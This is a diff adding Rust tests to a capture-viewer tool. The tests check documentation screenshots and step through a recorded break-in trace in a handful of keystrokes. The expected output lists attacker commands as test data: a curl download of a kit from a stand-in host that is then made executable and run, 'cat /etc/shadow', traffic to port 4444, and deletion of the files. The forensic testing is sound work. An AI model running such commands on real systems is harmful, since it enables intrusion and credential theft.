@@ -249,3 +249,110 @@ fn what_cannot_be_done_is_said() {
     let late = [&[sample, "--from", "+100s"][..], &shot, &[""]].concat();
     fails(&late, 1, "no events in that time");
 }
+
+/// The pictures of docs/view.md: what they are called and the keys that lead to them.
+const PICTURES: [(&str, &str); 8] = [
+    ("overview", "<Down>"),
+    ("shells", "<Down><Enter><Down>"),
+    ("descendants", "<Down><Enter><Down>D"),
+    ("connections", "<Down><Enter><Down>D5<Down>"),
+    ("echo", "<Down><Enter><Down>D5<Down>e"),
+    ("files", "<Down><Enter><Down>D4"),
+    ("tree", "<Down><Enter><Down>D3"),
+    (
+        "detail",
+        "<Down><Enter><Down>D2:and evt.type=unlinkat<Enter><Enter>",
+    ),
+];
+
+#[test]
+fn the_pictures_of_the_document_are_what_is_shown() {
+    let update = env::var_os("SCAP_UPDATE_DOCS").is_some();
+    let document = fs::read_to_string(root().join("docs/view.md")).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    for (name, keys) in PICTURES {
+        let made = dir.path().join("made.svg");
+        let scap = Command::new(env!("CARGO_BIN_EXE_scap"))
+            .current_dir(root().join("testdata"))
+            .args([
+                "view",
+                "intrusion.scap",
+                "--size",
+                "104x30",
+                "--script",
+                keys,
+                "--screenshot",
+            ])
+            .arg(&made)
+            .env("TZ", "UTC")
+            .status()
+            .unwrap();
+        assert!(scap.success());
+        let made = fs::read_to_string(made).unwrap();
+        let path = root().join(format!("docs/view/{name}.svg"));
+        if update {
+            fs::write(&path, &made).unwrap();
+        }
+        assert!(
+            made == fs::read_to_string(&path).unwrap(),
+            "{}",
+            path.display()
+        );
+        assert!(document.contains(&format!("view/{name}.svg")), "{name}");
+    }
+}
+
+/// The steps of the break-in, each with the keys from the start and what they show.
+const STEPS: [(&str, &[&str]); 6] = [
+    // A server starts shells.
+    ("<Down><Enter>", &["perl", "sh -c echo checking"]),
+    // What the second of them led to: a download, made executable, executed, credentials read.
+    (
+        "<Down><Enter><Down>D",
+        &[
+            "curl -s -o /tmp/.cache-upd http://203.0.113.66/kit",
+            "chmod 755 /tmp/.cache-upd",
+            ".cache-upd /tmp/.cache-upd",
+            "cat /etc/shadow",
+            "uname -sm",
+            "rm -f /tmp/.f /tmp/.cache-upd",
+        ],
+    ),
+    // Whom it talked to.
+    (
+        "<Down><Enter><Down>D5",
+        &["203.0.113.66:80", "203.0.113.66:4444"],
+    ),
+    // What was sent there.
+    (
+        "<Down><Enter><Down>D5<Down>e",
+        &["written", "203.0.113.66:4444"],
+    ),
+    // What is left, or was: files made and removed.
+    ("<Down><Enter><Down>D4", &["/tmp/.cache-upd", "/tmp/.f"]),
+    // The removal itself.
+    (
+        "<Down><Enter><Down>D1<Down><Down><Down>",
+        &["files removed"],
+    ),
+];
+
+#[test]
+fn the_break_in_is_found_with_under_a_dozen_keys() {
+    for (keys, shown) in STEPS {
+        let count = keys.matches('<').count()
+            + keys
+                .split(['<', '>'])
+                .step_by(2)
+                .map(str::len)
+                .sum::<usize>();
+        assert!(count < 12, "{count} keys: {keys}");
+        let screen = screen(&intrusion(), "intrusion.scap", keys, "120x40");
+        for text in shown {
+            assert!(
+                screen.contains(text),
+                "no {text:?} after {keys} in\n{screen}"
+            );
+        }
+    }
+}
